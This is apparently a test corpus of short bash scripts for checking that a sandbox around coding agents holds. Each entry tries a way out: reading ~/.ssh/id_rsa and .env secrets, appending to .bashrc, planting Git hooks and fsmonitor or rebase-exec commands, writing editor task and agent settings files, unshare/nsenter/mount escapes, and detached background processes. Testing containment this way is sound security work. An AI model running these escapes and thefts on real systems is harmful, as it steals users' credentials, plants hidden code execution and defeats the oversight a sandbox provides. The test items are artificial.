# The corpus that attacks the sandbox: scripts of bash, each behind a line "=== KIND NAME". A script begins in the project $R; $O is a folder of others,
# $H the home folder, and $T a port that listens. A single tries to get out by itself. A change is harmless alone and takes the view from the next look;
# an exploit uses that.

=== single read outside
cat "$O/secret"
=== single read the home folder
cat "$H/.ssh/id_rsa" "$H"/.ssh/*
=== single read by /proc
cat /proc/self/root"$O/secret" /proc/1/root"$O/secret" /proc/*/cwd/.env
=== single read secrets
cat .env conf/.env key.pem; tar -cf - . | cat; grep -r KEY .; cp .env x; cat x; mv conf c; cat c/.env; dd if=.env; < .env cat
=== single link to a secret
ln .env e; cat e; ln -s .env f; cat f; ln -s "$O" o; cat o/secret; ln "$O/secret" s; cat s
=== single write outside
echo x >"$O/new"; echo x >>"$O/secret"; rm -rf "$O/secret"; mv "$O" "$O.moved"; chmod 777 "$O/secret"; touch -d @1 "$O/secret"
=== single write the home folder
echo evil >>"$H/.bashrc"; mkdir -p "$H/.config/superstep"; rm -rf "$H/.ssh"
=== single link and write outside
ln -s "$O" o; echo x >o/new; ln -s "$O/secret" s; echo x >>s; cp hk o/
=== single hooks
cp hk .git/hooks/post-commit; cp hk tools/hooks/post-commit; cp hk tools/hooks/pre-push; cp hk tools/hooks/post-checkout
=== single configuration of Git
git config core.fsmonitor ./hk; echo '[core] fsmonitor = ./hk' >>.git/config; printf '[core]\n\tfsmonitor = ./hk\n' >.git/config.worktree; rm -f .git/config; mv .git/config .git/c
=== single included configuration
printf '[core]\n\tfsmonitor = ./hk\n' >git.cfg; mv git.cfg g; printf '[core]\n\tfsmonitor = ./hk\n' >git.cfg
=== single credentials of Git
git config --list; cat .git/config; cp .git/config x; cat x; git config --get-regexp extraheader
=== single bare repository
mkdir -p docs/objects docs/refs; echo 'ref: refs/heads/main' >docs/HEAD; printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = ../hk\n' >docs/config
=== single bare repository of links and files
mkdir -p docs o x; ln -s ../o docs/objects; touch docs/refs; chmod 755 docs/refs; echo 'ref: refs/heads/main' >docs/HEAD; printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = ../hk\n' >docs/config
=== single interpreters and debuggers
mkdir -p x; for f in .Rprofile .irbrc .pdbrc .gdbinit; do echo x >$f; echo x >x/$f; done
=== single repository in a folder
mkdir -p docs; cd docs; git init -q; git config core.fsmonitor ../hk; printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ../hk\n' >.git/config
=== single todo of a rebase
mkdir -p .git/rebase-merge; echo "exec $R/hk" >.git/rebase-merge/git-rebase-todo; echo refs/heads/main >.git/rebase-merge/head-name; git rev-parse HEAD | tee .git/rebase-merge/onto >.git/rebase-merge/orig-head
=== single file for a repository
cp -r .git g2; printf '[core]\n\tfsmonitor = ./hk\n' >>g2/config; mv .git g3; echo "gitdir: $R/g2" >.git
=== single tasks of editors
mkdir -p .vscode .idea .zed x/.vscode; echo x >.vscode/tasks.json; echo x >x/.vscode/tasks.json; echo x >x/a.code-workspace; echo x >.exrc; echo x >x/.lvimrc
=== single agents
for d in .claude .qwen .codex .gemini .opencode .cursor .amp .factory; do mkdir -p $d x/$d; echo '{}' >$d/settings.json; echo '{}' >x/$d/settings.json; done; echo '{}' >.mcp.json; echo '{}' >x/crush.json
=== single environment
echo 'export A=b' >.envrc; echo x >mise.toml; mkdir -p x; echo x >x/.mise.local.toml; echo x >x/.envrc
=== single continuous integration
mkdir -p .github/workflows .circleci x; echo x >.github/workflows/a.yml; echo x >.circleci/config.yml; echo x >.gitlab-ci.yml; echo x >x/Jenkinsfile
=== single rules of agents
echo x >AGENTS.md; mkdir -p x; echo x >x/CLAUDE.md; mkdir .superstep; echo x >.superstep/config.yaml
=== single change what exists
echo evil >sub/.vscode/tasks.json; rm -rf sub/.vscode; mv sub u; mkdir sub; cp -r u/.vscode sub/
=== single network
echo x >/dev/tcp/127.0.0.1/$T; (exec 3<>/dev/tcp/127.0.0.1/$T); curl -s --noproxy '*' "http://127.0.0.1:$T"
=== single network by the proxy
curl -s -x "$HTTP_PROXY" "http://127.0.0.1:$T"; curl -sp -x "$HTTP_PROXY" "http://127.0.0.1:$T"; curl -s -x "$HTTP_PROXY" "http://localhost:$T"
=== single new namespaces
unshare -Ur cat "$O/secret"; unshare -Urm sh -c 'umount -l .env; cat .env'; nsenter -t 1 -m cat "$O/secret"
=== single mounts
umount .env .git/hooks .git/config .; mount --bind "$O" .; mount -o remount,rw .git/config; cat .env
=== single left running
(setsid bash -c 'sleep 0.2; mkdir -p x/.vscode; cp hk .git/hooks/post-commit' >/dev/null 2>&1 &)
=== single links for protected names
mkdir v; ln -s v .vscode; ln -s ../v src/.claude; ln -sf "$R/hk" .git/hooks/post-commit
=== single links to what is the user's
mkdir -p x/y; ln -s ../.git x/.envrc; ln -s ../../.git x/y/.git; ln -s ../.env src/.idea
=== single repository in the index
git init -q x/node_modules/r; cd x/node_modules/r; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; git config core.fsmonitor "$R/hk"; C=$(git rev-parse HEAD); cd "$R"; export GIT_INDEX_FILE=$TMPDIR/i; cp .git/index $TMPDIR/i; git update-index --add --cacheinfo 160000,$C,x/node_modules/r; cat $TMPDIR/i >.git/index
=== single other letters
mkdir .VSCode src/.Claude; mkdir "x"; touch "x/.MCP.json"
=== single fifo and socket
mkdir x; mkfifo x/.envrc x/.mcp.json
=== single hidden folders
mkdir -p .aws/.vscode x/.ssh/.vscode; echo x >x/.ssh/.vscode/tasks.json
=== change chmod 300 .
chmod 300 .
=== change chmod 100 .
chmod 100 .
=== change chmod 000 .
chmod 000 .
=== change chmod 555 .
chmod 555 .
=== change chmod 400 .
chmod 400 .
=== change chmod 300 conf
chmod 300 conf
=== change chmod 100 conf/deep
chmod 100 conf/deep
=== change chmod 000 conf
chmod 000 conf
=== change chmod 400 conf
chmod 400 conf
=== change chmod 300 sub
chmod 300 sub src
=== change chmod 300 .git
chmod 300 .git
=== change chmod 000 tools
chmod 000 tools
=== change taken names
for i in $(seq 1000); do : >.vscode.refused-$i; done
=== change rename folders
mv conf other; mv src under
=== change long path
n=$(printf %0250d 1); for i in $(seq 18); do mkdir $n; cd $n; done
=== change long path, closed
n=$(printf %0250d 1); for i in $(seq 18); do mkdir $n; cd $n; done; cd "$R"; chmod 300 $n
=== change deep path
for i in $(seq 300); do mkdir d; cd d; done
=== change remove hooks
rm -rf .git/hooks; mv .git/hooks .git/h2
=== change loops of links
mkdir -p a; ln -s ../.git a/b; ln -s . self; ln -s loop loop
=== change many folders
mkdir -p many/{1..20}/{1..20}
=== change node_modules
mkdir -p node_modules/x/.vscode node_modules/y/objects node_modules/y/refs; echo x >node_modules/x/.vscode/tasks.json
=== change folder with a secret name
mkdir -p .env.d certs.pem
=== change new agents
mkdir -p n/.claude; echo x >n/.claude/s
=== change copy of .git
cp -r .git n2 2>/dev/null; true
=== change own repository
mkdir -p o; cd o; git init -q . 2>/dev/null; true
=== change old times
touch -d @1 . conf sub src
=== change pipes and sockets
mkfifo p; mkdir q; mkfifo q/HEAD
=== change odd names
mkdir $'a\nb' $'\xff\xfe' ' ' -- -e; true
=== change nothing
true
=== change commit
echo x >src/x.go; git add -A; git commit -qm x
=== change stash
echo x >>src/main.go; git stash -q
=== change branch
git checkout -q -b b; git checkout -q main
=== exploit read
cat .env conf/.env conf/deep/.env other/.env key.pem
=== exploit open and read
chmod -R 755 . 2>/dev/null; cat .env conf/.env conf/deep/.env other/.env
=== exploit open one and read
chmod 755 .; chmod 755 conf; cat .env conf/.env; chmod 755 conf/deep; cat conf/deep/.env
=== exploit hook
cp hk .git/hooks/post-commit; git config core.fsmonitor ./hk
=== exploit open and hook
chmod 755 . .git tools 2>/dev/null; cp hk .git/hooks/post-commit; cp hk tools/hooks/post-commit; git config core.fsmonitor ./hk
=== exploit hooks path
chmod 755 tools tools/hooks; cp hk tools/hooks/post-commit; mkdir -p tools/hooks; cp hk tools/hooks/pre-commit
=== exploit tasks
mkdir .vscode; echo x >.vscode/tasks.json; echo x >sub/.vscode/tasks.json
=== exploit tasks, closed
mkdir .vscode n3; mkdir n3/.vscode; echo x >n3/.vscode/tasks.json; chmod 300 n3 .
=== exploit tasks, 555
mkdir new; mkdir new/.vscode; echo x >new/.vscode/tasks.json; chmod 555 new .; chmod 000 new/.vscode
=== exploit tasks, 000
mkdir -p new/a; mkdir new/a/.vscode; chmod 000 new
=== exploit tasks, long path
n=$(printf %0250d 1); mkdir -p s2; cd s2; for i in $(seq 18); do mkdir -p $n; cd $n; done; mkdir .vscode; echo x >.vscode/tasks.json
=== exploit tasks, deep
for i in $(seq 300); do mkdir -p d; cd d; done; mkdir .claude
=== exploit long names
mkdir -p new; touch new/.mcp.json; touch "new/.mcp.json$(printf '\u200b%.0s' {1..70})"
=== exploit in hidden folders
mkdir -p .env.d new/.env.d; mkdir .env.d/.vscode new/.env.d/.vscode
=== exploit harmless
chmod 755 . conf
=== exploit out of node_modules
mkdir -p z; mv node_modules/x z/y; mv node_modules/y z/w; echo 'ref: refs/heads/main' >z/w/HEAD; printf '[core]\n\tfsmonitor = %s/hk\n\tbare = false\n\tworktree = .\n' "$R" >z/w/config; mv z/w docs
=== exploit mcp
echo '{}' >.mcp.json; mkdir -p sub/x; echo '{}' >sub/x/.mcp.json
=== exploit rename over
mkdir -p q; echo x >q/x; mv q .claude; mkdir w; mv w src/.husky
=== exploit another .git
mv .git .g2; mkdir .git; cp -r .g2/* .git/; cp hk .git/hooks/post-commit
=== exploit bare
mkdir -p docs/objects docs/refs; echo 'ref: refs/heads/main' >docs/HEAD; printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = ../hk\n' >docs/config; chmod 300 docs
=== exploit included
printf '[core]\n\tfsmonitor = ./hk\n' >git.cfg; rm -f git.cfg; printf '[core]\n\tfsmonitor = ./hk\n' >git.cfg
=== exploit todo
mkdir -p .git/rebase-merge; echo "exec $R/hk" >.git/rebase-merge/git-rebase-todo; echo refs/heads/main >.git/rebase-merge/head-name; git rev-parse HEAD | tee .git/rebase-merge/onto >.git/rebase-merge/orig-head; chmod 300 .git/rebase-merge .git
=== exploit sequencer
mkdir -p .git/sequencer; echo "exec $R/hk" >.git/sequencer/todo; chmod 000 .git
=== exploit link for a name
mkdir -p v src; ln -s ../v src/.vscode; ln -s "$O" src/.idea
=== exploit outside
cat "$O/secret" "$H/.ssh/id_rsa"; echo x >"$O/new"; echo x >>"$H/.bashrc"
=== exploit back
mv other conf; mv under src; chmod -R u+rwx . 2>/dev/null; cat conf/.env
=== exploit rename and open
mv conf c3; chmod 755 c3; cat c3/.env; mv sub s3; echo x >s3/.vscode/tasks.json
=== exploit copy
cp -r . "$TMPDIR/copy" 2>/dev/null; cat "$TMPDIR/copy/.env" "$TMPDIR/copy/conf/.env"; tar -cf - . 2>/dev/null | grep -a KEY
=== exploit clone
git clone -q . c4; git -C c4 config core.fsmonitor "$R/hk"; mkdir -p docs; mv c4/.git docs/.git; mv c4 c5
=== exploit swap
mkdir -p x1/.claude; (for i in $(seq 50); do mv x1 x2; mv x2 x1; done) & sleep 0.05; touch x1/.claude/s x2/.claude/s; wait
=== exploit index
git update-index --index-info </dev/null; printf '*.go filter=x\n' >.gitattributes; git config filter.x.clean ./hk
=== exploit worktree
git worktree add -q wt HEAD; mkdir -p wt; echo "gitdir: $R/n2" >wt/.git; echo "gitdir: $R/n2" >docs
